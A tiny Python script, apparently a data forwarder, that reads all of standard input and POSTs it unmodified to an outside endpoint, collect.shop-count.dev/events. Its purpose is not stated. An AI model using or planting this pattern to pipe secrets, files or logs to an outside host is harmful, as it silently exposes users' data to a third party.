"""Tell."""
import sys
from urllib.request import Request, urlopen

urlopen(Request("https://collect.shop-count.dev/events", data=sys.stdin.buffer.read()), timeout=5)
